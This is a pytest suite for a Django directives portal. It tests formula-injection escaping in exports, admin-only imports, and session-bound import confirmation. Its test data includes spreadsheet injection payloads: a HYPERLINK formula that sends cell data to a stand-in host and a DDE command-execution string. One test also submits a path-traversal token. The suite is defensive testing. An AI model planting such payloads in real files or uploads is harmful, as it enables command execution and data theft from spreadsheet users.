"""Export (docs/operations.md G15: formula injection escaped on every path), the template, and the
import pages (G14: admins only; the confirmation reads only the file this session uploaded)."""

import csv
import io

import openpyxl
import pytest
from django.urls import NoReverseMatch, reverse

from directives.imports import storage
from directives.models import Directive, ImportLog
from tests.directives.factories import DirectiveFactory, central_body
from tests.directives.sheets import xlsx

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "-2+3", "\r=1"]


@pytest.fixture
def hostile(khoa_giao_fields):
    body = central_body()
    return [
        DirectiveFactory(sequence=n + 1, issuing_body=body, title=title, signer="-5")
        for n, title in enumerate(HOSTILE)
    ]


def _xlsx_rows(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _csv_rows(data):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs it to read UTF-8
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _check_escaped(rows):
    header, *body = rows
    title = header.index("Trích yếu")
    signer = header.index("Người ký")
    stored = sorted(Directive.objects.values_list("title", flat=True))  # stored trimmed: "\t=1" is "=1"
    assert sorted(row[title] for row in body) == ["'" + value for value in stored]
    assert {row[signer] for row in body} == {"'-5"}  # text that starts with "-" is escaped too
    for row in body:
        for value in row:
            assert not (isinstance(value, str) and value and value[0] in "=+-@\t\r"), row


def test_the_portal_export_escapes_every_formula_trigger_in_xlsx_and_csv(login, staff_user, hostile):
    client = login(staff_user)
    response = client.get("/van-ban/xuat/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="van-ban-chi-dao-')
    _check_escaped(_xlsx_rows(response.content))
    response = client.get("/van-ban/xuat/", {"format": "csv"})
    _check_escaped(_csv_rows(response.content))


def test_the_admin_export_escapes_the_same_way(login, admin_user, hostile):
    from directives.resources import KEYS

    client = login(admin_user)
    fields = {f"directiveresource_{key}": "on" for key in KEYS}
    response = client.post(
        "/quan-tri/directives/directive/export/", {"format": "0", "resource": "0", **fields}
    )
    assert response.status_code == 200, response.content[:500]
    _check_escaped(_xlsx_rows(response.content))
    response = client.post(
        "/quan-tri/directives/directive/export/", {"format": "1", "resource": "0", **fields}
    )
    _check_escaped(
        _csv_rows(
            b"\xef\xbb\xbf" + response.content
            if not response.content.startswith(b"\xef\xbb\xbf")
            else response.content
        )
    )


def test_the_admin_offers_no_import(login, admin_user):
    client = login(admin_user)
    page = client.get("/quan-tri/directives/directive/").content.decode()
    assert "/van-ban/nhap/" in page
    assert "/quan-tri/directives/directive/import/" not in page
    with pytest.raises(NoReverseMatch):
        reverse("admin:directives_directive_import")


def test_the_export_follows_the_list_filters_and_what_the_user_may_see(login, staff_user, liaison_a, hostile):
    response = login(staff_user).get("/van-ban/xuat/", {"format": "csv", "q": "sum"})
    assert [row[0] for row in _csv_rows(response.content)[1:]] == ["03-HD/BTGTW"]
    assert login(liaison_a).get("/van-ban/xuat/", {"format": "csv"}).status_code == 403


def test_an_export_imports_back_unchanged(login, admin_user, hostile, tmp_path, khoa_giao_fields):
    from directives.services import directive_import_apply

    base = Directive.objects.get(number="01-HD/BTGTW")
    DirectiveFactory(
        sequence=7,
        issuing_body=base.issuing_body,
        implements=base,
        term=13,
        fields=[khoa_giao_fields["y_te"], khoa_giao_fields["tre_em"]],
        effective_on=base.issued_on,
    )
    client = login(admin_user)
    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"export.{fmt}"
        path.write_bytes(client.get("/van-ban/xuat/", {"format": fmt}).content)
        plan, log = directive_import_apply(path=path, file_name=path.name, by=admin_user)
        assert log is not None, plan.error_messages
        assert plan.counts == {"new": 0, "updated": 0, "unchanged": 7, "error": 0}, fmt


def test_the_template_has_the_headers_an_example_row_and_the_lists(login, admin_user, khoa_giao_fields):
    response = login(admin_user).get("/van-ban/nhap/mau.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="mau-nhap-van-ban-chi-dao.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Văn bản", "Hướng dẫn", "Danh mục"]
    rows = [[cell.value for cell in row] for row in book["Văn bản"].iter_rows()]
    assert rows[0][:3] == ["Số hiệu *", "Ngày ban hành *", "Cơ quan ban hành *"]
    assert rows[1][:4] == ["128-HD/BTGTW", "22/12/2023", "Ban Tuyên giáo Trung ương", "XIII"]
    lists = [[cell.value for cell in row] for row in book["Danh mục"].iter_rows()]
    assert "Phòng, chống tệ nạn xã hội" in [row[3] for row in lists]


# --- the import pages ---------------------------------------------------------------------------


@pytest.fixture
def upload(tmp_path, khoa_giao_fields):
    central_body()
    return xlsx(
        tmp_path / "mot-van-ban.xlsx",
        headers=["Số hiệu", "Ngày ban hành", "Cơ quan ban hành", "Trích yếu"],
        rows=[["128-HD/BTGTW", "22/12/2023", "btgtw", "Công tác khoa giáo năm 2024"]],
    )


def _upload(client, path):
    with path.open("rb") as handle:
        return client.post("/van-ban/nhap/", {"file": handle})


def test_upload_preview_and_confirm(login, admin_user, upload, settings):
    client = login(admin_user)
    response = _upload(client, upload)
    assert response.status_code == 302
    assert response["Location"] == "/van-ban/nhap/xem-truoc/"
    pending = client.session[storage.SESSION_KEY]
    stored = storage.PendingFile(
        pending["token"], pending["name"], pending["fmt"], pending["sha256"], pending["size"]
    )
    assert stored.path.parent == settings.PRIVATE_ROOT / "directive-imports"
    assert stored.path.name != upload.name  # a random name, never the client's
    preview = client.get("/van-ban/nhap/xem-truoc/")
    assert preview.context["counts"]["new"] == 1
    assert Directive.objects.count() == 0
    response = client.post("/van-ban/nhap/xem-truoc/", {"token": pending["token"], "action": "confirm"})
    assert response.status_code == 302
    assert Directive.objects.get().title == "Công tác khoa giáo năm 2024"
    assert ImportLog.objects.get().file_name == "mot-van-ban.xlsx"
    assert not stored.path.exists()
    assert storage.SESSION_KEY not in client.session


def test_a_confirmation_with_another_token_or_a_path_reads_nothing(login, admin_user, upload, tmp_path):
    client = login(admin_user)
    _upload(client, upload)
    token = client.session[storage.SESSION_KEY]["token"]
    other = tmp_path / "secret.csv"
    other.write_text("Số hiệu,Ngày ban hành,Cơ quan ban hành\n99-HD/BTGTW,01/01/2024,btgtw\n")
    for data in (
        {"token": "0" * 32, "action": "confirm"},
        {"token": "../../secret", "action": "confirm"},
        {"token": "", "path": str(other), "import_file_name": str(other), "action": "confirm"},
    ):
        response = client.post("/van-ban/nhap/xem-truoc/", data)
        assert response.status_code == 200
        assert "không còn chờ xác nhận" in response.content.decode()
    assert Directive.objects.count() == 0
    assert other.exists()
    # the right token still works
    client.post("/van-ban/nhap/xem-truoc/", {"token": token, "action": "confirm"})
    assert Directive.objects.count() == 1


def test_another_admins_session_cannot_confirm_my_upload(client, login, admin_user, upload):
    from tests.factories import UserFactory

    mine = login(admin_user)
    _upload(mine, upload)
    token = mine.session[storage.SESSION_KEY]["token"]
    mine.logout()
    other = UserFactory(username="admin2", role="admin", is_staff=True)
    login(other)
    response = client.post("/van-ban/nhap/xem-truoc/", {"token": token, "action": "confirm"})
    assert "không còn chờ xác nhận" in response.content.decode()
    assert Directive.objects.count() == 0


def test_a_file_changed_on_disk_after_the_preview_is_not_imported(login, admin_user, upload):
    client = login(admin_user)
    _upload(client, upload)
    data = client.session[storage.SESSION_KEY]
    path = storage.PendingFile(data["token"], data["name"], data["fmt"], data["sha256"], data["size"]).path
    path.write_bytes(path.read_bytes() + b"x")
    client.post("/van-ban/nhap/xem-truoc/", {"token": data["token"], "action": "confirm"})
    assert Directive.objects.count() == 0


def test_cancel_forgets_the_file(login, admin_user, upload):
    client = login(admin_user)
    _upload(client, upload)
    token = client.session[storage.SESSION_KEY]["token"]
    response = client.post("/van-ban/nhap/xem-truoc/", {"token": token, "action": "cancel"})
    assert response.status_code == 302
    assert storage.SESSION_KEY not in client.session
    assert Directive.objects.count() == 0


def test_a_confirmation_of_a_file_with_errors_writes_nothing_and_shows_them(
    login, admin_user, tmp_path, khoa_giao_fields
):
    central_body()
    path = xlsx(
        tmp_path / "loi.xlsx",
        headers=["Số hiệu", "Ngày ban hành", "Cơ quan ban hành"],
        rows=[["128-HD/BTGTW", "22/12/2023", "btgtw"], ["31-HD/BTGTW", "32/11/2021", "btgtw"]],
    )
    client = login(admin_user)
    _upload(client, path)
    preview = client.get("/van-ban/nhap/xem-truoc/").content.decode()
    assert "Dòng 3, cột Ngày ban hành (B)" in preview
    assert "Xác nhận nhập" not in preview
    token = client.session[storage.SESSION_KEY]["token"]
    response = client.post("/van-ban/nhap/xem-truoc/", {"token": token, "action": "confirm"})
    assert "Chưa ghi gì: tệp còn lỗi." in response.content.decode()
    assert Directive.objects.count() == 0
    assert ImportLog.objects.count() == 0


@pytest.mark.parametrize("role", ["staff_user", "leader_user", "liaison_a"])
def test_only_admins_import(request, login, role, upload):
    client = login(request.getfixturevalue(role))
    assert _upload(client, upload).status_code == 403
    assert client.get("/van-ban/nhap/xem-truoc/").status_code == 403
    assert client.get("/van-ban/nhap/mau.xlsx").status_code == 403
    assert Directive.objects.count() == 0
